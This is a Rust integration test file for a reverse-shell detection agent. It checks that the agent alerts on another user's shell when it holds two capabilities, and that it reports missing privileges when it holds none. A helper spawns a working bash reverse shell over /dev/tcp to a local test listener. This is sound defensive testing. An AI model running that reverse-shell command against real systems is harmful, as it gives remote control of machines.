//! Least privilege for real: the agent run as an unprivileged user holding only CAP_SYS_PTRACE and
//! CAP_DAC_READ_SEARCH (what the systemd unit grants) sees a reverse shell run by another,
//! unrelated user and alerts on it; with no capabilities it cannot see that shell, and says so: a
//! `privileges_missing` event at start and the shell counted in `processes_denied`.

use crate::agent::Agent;
use crate::util::{KillOnDrop, ScratchDir, prerequisites};
use serde_json::Value;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

/// The agent's user and the shell's: two unrelated unprivileged uids (no passwd entry needed).
const AGENT_UID: u32 = 64_001;
const SHELL_UID: u32 = 64_002;

/// `setpriv` switching to `uid` with only `caps` (comma-separated, e.g. `+sys_ptrace`), kept
/// across the uid change as ambient capabilities.
fn as_user(uid: u32, caps: Option<&str>) -> Vec<String> {
    let mut wrapper = vec![
        "setpriv".to_string(),
        format!("--reuid={uid}"),
        format!("--regid={uid}"),
        "--clear-groups".to_string(),
    ];
    match caps {
        Some(caps) => {
            wrapper.push(format!("--inh-caps=-all,{caps}"));
            wrapper.push(format!("--ambient-caps={caps}"));
        }
        None => wrapper.push("--inh-caps=-all".to_string()),
    }
    wrapper
}

/// A state directory the agent's user owns.
fn state_for(uid: u32) -> ScratchDir {
    let state = ScratchDir::new("least-privilege");
    std::os::unix::fs::chown(&state.path, Some(uid), Some(uid)).unwrap();
    state
}

/// `bash -i` of `SHELL_UID` with its stdio on a connection to a listener of the test, proven to
/// work (it answers `id` with its uid) before it is returned.
fn reverse_shell() -> (KillOnDrop, TcpStream, i32) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut command = Command::new("setpriv");
    command
        .args([format!("--reuid={SHELL_UID}"), format!("--regid={SHELL_UID}")])
        .args(["--clear-groups", "--inh-caps=-all", "bash", "-c"])
        .arg(format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .current_dir("/")
        .stdin(Stdio::null())
        .stderr(Stdio::null());
    let shell = KillOnDrop::new(command.spawn().unwrap());
    let pid = shell.0.as_ref().unwrap().id() as i32;
    let (mut stream, _) = listener.accept().unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(b"id -u\n").unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let answered = (0..20).any(|_| {
        let mut line = String::new();
        reader.read_line(&mut line).is_ok_and(|_| line.trim().ends_with(&SHELL_UID.to_string()))
    });
    assert!(answered, "the reverse shell did not answer as uid {SHELL_UID}");
    (shell, stream, pid)
}

fn action(e: &Value) -> &str {
    e["event"]["action"].as_str().unwrap_or("")
}

#[test]
fn with_only_ptrace_and_dac_read_search_another_users_shell_is_seen_and_alerted() {
    if !prerequisites(&["setpriv", "bash"]) {
        return;
    }
    let state = state_for(AGENT_UID);
    let wrapper = as_user(AGENT_UID, Some("+sys_ptrace,+dac_read_search"));
    let wrapper: Vec<&str> = wrapper.iter().map(String::as_str).collect();
    let agent = Agent::start_through(&wrapper, &state.path, &[]);
    let started = agent.wait_for("agent_started", |e| action(e) == "agent_started");
    let privileges = &started["sockwatch"]["privileges"];
    assert_eq!(
        (privileges["sys_ptrace"].as_bool(), privileges["dac_read_search"].as_bool()),
        (Some(true), Some(true))
    );
    assert_eq!(privileges["sys_admin"], false, "nothing beyond the two capabilities: {started}");

    let (_shell, _stream, pid) = reverse_shell();
    let alert = agent.wait_for("incident_opened for the other user's shell", |e| {
        action(e) == "incident_opened" && e["process"]["pid"] == pid
    });
    assert_eq!(alert["process"]["user"]["id"], SHELL_UID.to_string(), "{alert}");
    assert_eq!(alert["sockwatch"]["incident"]["latency_scans"], 0, "{alert}");
    assert!(!agent.events().iter().any(|e| action(e) == "privileges_missing"));
}

#[test]
fn without_capabilities_another_users_shell_is_counted_as_denied_not_missed_silently() {
    if !prerequisites(&["setpriv", "bash"]) {
        return;
    }
    let state = state_for(AGENT_UID);
    let wrapper = as_user(AGENT_UID, None);
    let wrapper: Vec<&str> = wrapper.iter().map(String::as_str).collect();
    let agent = Agent::start_through(&wrapper, &state.path, &["--heartbeat", "300ms"]);
    let missing = agent.wait_for("privileges_missing", |e| action(e) == "privileges_missing");
    let named: Vec<&str> = missing["sockwatch"]["missing"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(named, ["CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH"], "{missing}");
    let denied = |agent: &Agent| {
        let beats: Vec<Value> =
            agent.events().into_iter().filter(|e| action(e) == "heartbeat").collect();
        beats.last().map(|b| b["sockwatch"]["coverage"]["processes_denied"].as_u64().unwrap())
    };
    agent.wait_for("a heartbeat", |e| action(e) == "heartbeat");
    let before = denied(&agent).unwrap();

    // The count is the host's: other tests' processes come and go beside this one. The shell
    // and 32 children of its uid stand out of that churn by far.
    let (_shell, mut stream, pid) = reverse_shell();
    stream.write_all(b"for i in $(seq 32); do sleep 30 & done; echo spawned-$((32))\n").unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let spawned = (0..40).any(|_| {
        let mut line = String::new();
        reader.read_line(&mut line).is_ok_and(|_| line.contains("spawned-32"))
    });
    assert!(spawned, "the shell started its children");
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while denied(&agent).unwrap() < before + 16 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let during = denied(&agent).unwrap();
    for child in crate::shells::descendants(pid).into_iter().filter(|&p| p != pid) {
        let _ = rustix::process::kill_process(
            rustix::process::Pid::from_raw(child).unwrap(),
            rustix::process::Signal::KILL,
        );
    }
    assert!(
        during >= before + 16,
        "the shell of uid {SHELL_UID} and its 32 children are not counted: {before} -> {during}"
    );
    assert!(
        !agent
            .events()
            .iter()
            .any(|e| action(e) == "incident_opened" && e["process"]["pid"] == pid),
        "an agent without capabilities cannot have seen the shell's fds"
    );
}
